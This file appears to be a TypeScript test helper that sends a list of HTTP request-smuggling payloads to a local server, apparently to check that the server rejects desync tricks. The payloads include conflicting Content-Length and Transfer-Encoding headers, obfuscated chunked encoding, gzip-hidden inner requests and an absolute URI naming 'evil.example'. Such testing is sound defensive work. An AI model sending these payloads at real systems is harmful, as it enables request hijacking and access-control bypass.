import { connect } from 'node:net';
import { gzipSync } from 'node:zlib';

const host = 'Host: fr.localhost\r\n';
const inner = `GET /api/smuggled HTTP/1.1\r\n${host}\r\n`;
const post = (headers: string, body = ''): string =>
  `POST /api/outer HTTP/1.1\r\n${host}${headers}\r\n\r\n${body}`;
const zipped = gzipSync('x'.repeat(64) + inner);

/**
 * Incomplete or malformed requests that each hide one for `/api/smuggled`. Each is sent verbatim; then the client closes the
 * connection or waits for the server.
 */
const attacks: readonly (string | Buffer)[] = [
  Buffer.concat([Buffer.from(post(`Content-Encoding: gzip\r\nContent-Length: ${zipped.length}`)), zipped]),
  `GET /api/outer HTTP/1.1\r\n${host}Content-Length: ${inner.length}\r\n\r\n${inner}`,
  `HEAD /api/outer HTTP/1.1\r\n${host}Transfer-Encoding: chunked\r\n\r\n0\r\n\r\n${inner}`,
  post('Content-Length: 5\r\nTransfer-Encoding: chunked', `0\r\n\r\n${inner}`),
  post(`Transfer-Encoding: chunked\r\nContent-Length: ${inner.length}`, `0\r\n\r\n${inner}`),
  post('Content-Length: 2\r\nContent-Length: 60', `ab${inner}`),
  post('X-A: b\r\n Content-Length: 60', inner),
  post('Transfer-Encoding: xchunked', inner),
  post('Transfer-Encoding: gzip, chunked', `0\r\n\r\n${inner}`),
  post('Transfer-Encoding: chunked', `2;a\n${inner}`),
  post('Transfer-Encoding: chunked', `fffffffffffffffff\r\n${inner}`),
  post('Content-Length: 1000', inner),
  post('Transfer-Encoding: chunked', `400\r\n${inner}`),
  post('Content-Length: 70000', inner),
  post('Expect: 100-continue\r\nContent-Length: 60', inner),
  `GET /api/outer HTTP/1.1\r\n${host}Connection: upgrade\r\nUpgrade: websocket\r\n\r\n${inner}`,
  `GET http://evil.example/api/outer HTTP/1.1\r\n${host}\r\n${inner}`,
  `GET /api/../api/outer HTTP/1.1\r\n${host}\r\n${inner}`,
  `TRACE /api/outer HTTP/1.1\r\n${host}\r\n${inner}`,
];

/** Sends an attack. Every second client closes at once, the others wait for the server. Truncated attacks never wait. */
export const attack = (port: number, index: number): Promise<void> =>
  new Promise((resolve) => {
    const bytes = attacks[index % attacks.length] ?? '';
    const socket = connect({ port, host: '127.0.0.1' }, () => {
      socket.write(bytes, () => {
        if (index % 2 === 0 || /: (?:1000|70000)|\r\n400\r\n/.test(String(bytes))) socket.destroy();
      });
    });
    socket.on('error', () => undefined);
    socket.resume();
    socket.on('close', () => resolve());
  });
